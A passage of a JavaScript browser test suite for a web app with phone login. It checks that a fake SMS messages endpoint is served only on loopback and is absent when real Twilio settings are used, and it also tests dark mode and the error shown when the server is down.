  assert.equal((await ask({}, 'POST')).status, 404);
  await own.stop();
});

const elsewhere = Object.values(networkInterfaces()).flat().find(({internal, family}) => !internal && family === 'IPv4')?.address;
if (elsewhere)
  await check('messages are not for other machines', async () => {
    const own = await startServer(['--listen', '0.0.0.0:0']);
    const {port} = new URL(own.url);
    for (const [host, status] of [['127.0.0.1', 200], [elsewhere, 404]]) assert.equal((await fetch(`http://${host}:${port}/fake/messages`)).status, status, host);
    await own.stop();
  });
else skip('messages are not for other machines: this one has no address beside loopback');

await check('elsewhere the page says that the terminal has them', async () => {
  const page = await openPage('about:blank');
  await page.route('**/fake/messages', (route) => route.fulfill({status: 404, body: '{}'}));
  await page.goto(server.url);
  await page.getByText('prints each message to its terminal').waitFor();
  assert.equal(await page.getByRole('complementary', {name: 'Messages'}).count(), 0);
  await look(page, 'start-terminal');
  await page.close();
});

await check('where Twilio is real there is no phone, and nothing to ask for', async () => {
  const own = await startServer([], {TWILIO_ACCOUNT_SID: 'AC' + '0'.repeat(32), TWILIO_AUTH_TOKEN: secret('a secret that only Twilio knows'),
    TWILIO_SENDER: '+15005550006', TWILIO_BASE_URL: 'http://127.0.0.1:9'});
  assert.equal((await fetch(own.url + '/fake/messages')).status, 404);
  const page = await openPage('about:blank');
  const asked = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(own.url + '/#/login');
  await title(page, 'Log in');
  await field(page, 'Phone number').fill(ada.phone);
  await press(page, 'Send the code');
  await codeField(page).or(section(page).getByRole('alert').filter({hasText: /error/})).first().waitFor();
  assert.ok(asked.some((path) => path.endsWith('/loginWithPhoneNumber')), asked.join());
  assert.ok(!asked.some((path) => path.startsWith('/fake')), asked.join());
  assert.equal(await page.getByRole('complementary', {name: 'Messages'}).count(), 0);
  assert.equal(await page.getByText(/terminal/).locator('visible=true').count(), 0);
  await page.close();
  await own.stop();
});

await check('in the dark', async () => {
  const page = await open();
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  await page.emulateMedia({colorScheme: 'light'});
  const light = await ground();
  await page.emulateMedia({colorScheme: 'dark'});
  assert.notEqual(await ground(), light);
  await page.close();
});

await check('a server that is gone', async () => {
  const page = await open('#/register');
  const ended = await server.stop();
  assert.deepEqual(ended, {status: 0, signal: null});
  await fillIn(page, person());
  await press(page, 'Send the code');
  await alert(page, 'The server cannot be reached.');
  await look(page, 'register-no-server');
  await page.close();
});

await nothingWasWrong(/ERR_CONNECTION_REFUSED/);

await browser.close();
finish();
